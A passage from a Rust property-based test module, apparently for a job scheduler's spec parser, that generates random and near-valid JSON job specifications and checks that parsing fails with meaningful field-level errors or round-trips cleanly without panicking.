        "open_files",
        "output",
        "schedule",
        "timezone",
        "enabled",
        "task",
        "kind",
        "command",
        "env",
        "secret_env",
        "cwd",
        "method",
        "url",
        "headers",
        "secret_headers",
        "body",
        "expect_status",
        "endpoint",
        "metadata",
        "secret_metadata",
        "descriptor_set",
        "timeout",
        "retries",
        "max",
        "backoff",
        "max_backoff",
        "concurrency",
        "misfire",
        "max_catchup",
        "start_deadline",
        "on_worker_loss",
        "mode",
        "sharded",
        "selector",
        "on_success",
        "on_failure",
        "description",
        "labels",
        "team",
        "max_output",
        "A",
        "ETCRON_X",
        "a.b",
    ];

    /// Strings that are valid somewhere in a spec, and some that are not.
    const WORDS: &[&str] = &[
        "* * * * *",
        "*/5 * * * * *",
        "@every 1s",
        "@at 2030-01-01T00:00:00Z",
        "@daily",
        "61 * * * *",
        "UTC",
        "Europe/Berlin",
        "Mars/Base",
        "shell",
        "http",
        "grpc",
        "a.B/C",
        "etcron.test.Echo/Echo",
        "x-api-key",
        "ftp",
        "true",
        "",
        " ",
        "10s",
        "0s",
        "1ns",
        "25h",
        "8d",
        "allow",
        "forbid",
        "replace",
        "skip",
        "run_once",
        "run_all",
        "rerun",
        "mark_lost",
        "single",
        "broadcast",
        "sharded",
        "http://h/",
        "https://x.example/p",
        "ftp://x",
        "GET",
        "POST",
        "BREW",
        "/",
        "relative",
        "job-b",
        "Bad Name",
        "a\nb",
        "64MiB",
        "2TiB",
        "1KiB",
        "30s",
        "1500ms",
        "a\0b",
        "failure",
        "recovery",
        "slack",
    ];

    fn leaf() -> impl Strategy<Value = Value> {
        prop_oneof![
            Just(Value::Null),
            any::<bool>().prop_map(Value::Bool),
            (-2i64..2000).prop_map(Value::from),
            any::<i64>().prop_map(Value::from),
            any::<u64>().prop_map(Value::from),
            any::<f64>().prop_map(Value::from),
            prop::sample::select(WORDS).prop_map(Value::from),
            any::<String>().prop_map(Value::from),
        ]
    }

    fn name() -> impl Strategy<Value = String> {
        prop_oneof![prop::sample::select(NAMES).prop_map(str::to_owned), "[A-Za-z_. -]{0,8}"]
    }

    /// Any JSON value, up to 4 levels deep.
    fn json_value() -> impl Strategy<Value = Value> {
        leaf().prop_recursive(4, 48, 6, |inner| {
            prop_oneof![
                prop::collection::vec(inner.clone(), 0..6).prop_map(Value::Array),
                prop::collection::vec((name(), inner), 0..8)
                    .prop_map(|entries| Value::Object(entries.into_iter().collect::<Map<_, _>>())),
            ]
        })
    }

    fn base_spec() -> impl Strategy<Value = Value> {
        prop::sample::select(vec![
            json!({"schedule": "* * * * *", "task": {"kind": "shell", "command": "true"}}),
            json!({"schedule": "*/5 * * * * *", "timezone": "Europe/Berlin", "enabled": false,
                "task": {"kind": "shell", "command": "pg_dump db", "env": {"A": "1"},
                    "secret_env": {"PW": "x", "KEEP": null}, "cwd": "/"},
                "timeout": "10m", "retries": {"max": 3, "backoff": "10s", "max_backoff": "5m"},
                "concurrency": "forbid", "misfire": "run_all", "max_catchup": 5, "on_worker_loss": "mark_lost",
                "mode": {"sharded": 4}, "selector": {"region": "eu"}, "on_success": ["job-b"],
                "on_failure": ["alert"], "description": "d", "labels": {"team": "data"}, "max_output": 1024,
                "limits": {"memory": "64MiB", "cpu": "10s", "open_files": 64, "output": 1024}}),
            json!({"schedule": "@every 10s", "mode": "broadcast", "task": {"kind": "http", "url": "https://h/x",
                "method": "POST", "headers": {"X-A": "1"}, "secret_headers": {"Authorization": "t"},
                "body": "{}", "expect_status": 204}}),
            json!({"schedule": "@every 10s", "task": {"kind": "grpc", "endpoint": "http://127.0.0.1:50051",
                "method": "etcron.test.Echo/Echo", "request": {"text": "hi", "n": [1, 2]},
                "metadata": {"x-a": "1"}, "secret_metadata": {"authorization": "t", "keep": null}}}),
            json!({"schedule": "@hourly", "task": {"kind": "shell", "command": "true"},
                "notify": [{"url": "https://h/x", "on": ["failure", "success"], "headers": {"X-A": "1"}},
                    {"name": "ops", "secret_url": "https://hooks.example/T/B", "format": "slack",
                     "secret_headers": {"Authorization": "t"}}]}),
        ])
    }

    /// Where a mutation lands: the top level, or inside `task`, `retries` or `mode`.
    #[derive(Debug, Clone)]
    enum Edit {
        Set(Option<&'static str>, String, Value),
        Remove(Option<&'static str>, String),
    }

    fn edit() -> impl Strategy<Value = Edit> {
        let place = prop::sample::select(vec![
            None,
            Some("task"),
            Some("retries"),
            Some("mode"),
            Some("limits"),
            Some("notify"),
        ]);
        prop_oneof![
            3 => (place.clone(), name(), prop_oneof![leaf(), json_value()]).prop_map(|(p, n, v)| Edit::Set(p, n, v)),
            1 => (place, name()).prop_map(|(p, n)| Edit::Remove(p, n)),
        ]
    }

    /// A valid spec with a few fields changed, removed or added.
    fn near_spec() -> impl Strategy<Value = Value> {
        (base_spec(), prop::collection::vec(edit(), 0..4)).prop_map(|(mut spec, edits)| {
            for edit in edits {
                let (place, name) = match &edit {
                    Edit::Set(p, n, _) | Edit::Remove(p, n) => (*p, n.clone()),
                };
                let target = match place {
                    None => Some(&mut spec),
                    // Edits of `notify` land in its first target.
                    Some("notify") => spec.get_mut("notify").and_then(|n| n.get_mut(0)),
                    Some(p) => spec.get_mut(p),
                };
                if let Some(Value::Object(map)) = target {
                    match edit {
                        Edit::Set(_, _, v) => {
                            map.insert(name, v);
                        }
                        Edit::Remove(..) => {
                            map.remove(&name);
                        }
                    }
                }
            }
            spec
        })
    }

    /// Paths of the schema that an error may name although the body lacks them (missing
    /// fields); anything else it names must be in the body.
    const SCHEMA_PATHS: &[&str] =
        &["schedule", "task", "task.kind", "task.command", "task.url", "task.endpoint", "task.method", "mode.sharded"];

    /// Whether `path` (`a.b`, `a[0]`, keys may hold dots) leads somewhere in `value`.
    fn resolves(value: &Value, path: &str) -> bool {
        if path.is_empty() {
            return true;
        }
        match value {
            Value::Object(map) => map.iter().any(|(k, v)| {
                path.strip_prefix(k.as_str()).is_some_and(|rest| {
                    rest.is_empty()
                        || rest.strip_prefix('.').is_some_and(|r| resolves(v, r))
                        || (rest.starts_with('[') && resolves(v, rest))
                })
            }),
            Value::Array(items) => path
                .strip_prefix('[')
                .and_then(|r| r.split_once(']'))
                .and_then(|(i, rest)| Some((items.get(i.parse::<usize>().ok()?)?, rest)))
                .is_some_and(|(item, rest)| {
                    rest.is_empty() || rest.strip_prefix('.').is_some_and(|r| resolves(item, r))
                }),
            _ => false,
        }
    }

    fn check_value(value: &Value) -> TestCaseResult {
        match JobSpec::from_value(value.clone()) {
            Err(e) => {
                prop_assert!(!e.message.trim().is_empty(), "empty message for {}", value);
                if let Some(field) = &e.field {
                    prop_assert!(
                        SCHEMA_PATHS.contains(&field.as_str()) || resolves(value, field),
                        "error names {:?}, which is not in {} ({})",
                        field,
                        value,
                        e.message
                    );
                }
            }
            Ok(spec) => {
                let again = serde_json::to_value(&spec).map_err(|e| TestCaseError::fail(e.to_string()))?;
                prop_assert_eq!(JobSpec::from_value(again.clone()), Ok(spec.clone()), "{}", again);
                let bytes = serde_json::to_vec(&spec).map_err(|e| TestCaseError::fail(e.to_string()))?;
                prop_assert_eq!(JobSpec::from_json(&bytes), Ok(spec.clone()));
                // What a worker keeps (the accepted bytes as given) decodes to the same spec
                // without the validating pass.
                let given = serde_json::to_vec(value).map_err(|e| TestCaseError::fail(e.to_string()))?;
                prop_assert_eq!(JobSpec::from_validated_json(&given), Ok(spec));
            }
        }
        Ok(())
    }

    #[test]
    fn arbitrary_json_is_refused_or_accepted_cleanly() {
        check(300, json_value(), |value| check_value(&value));
    }

    #[test]
    fn near_valid_specs_are_refused_at_a_real_field_or_round_trip() {
        check(600, near_spec(), |value| check_value(&value));
    }

    #[test]
    fn arbitrary_bytes_never_panic() {
        let bytes = prop_oneof![
            any::<Vec<u8>>(),
            near_spec().prop_map(|v| {
                let mut b = serde_json::to_vec(&v).unwrap_or_default();
                b.truncate(b.len() / 2 + 1);
                b
            }),
        ];
        check(200, bytes, |bytes| {
            if let Err(e) = JobSpec::from_json(&bytes) {
                prop_assert!(!e.message.is_empty());
            }
            Ok(())
        });
    }
}
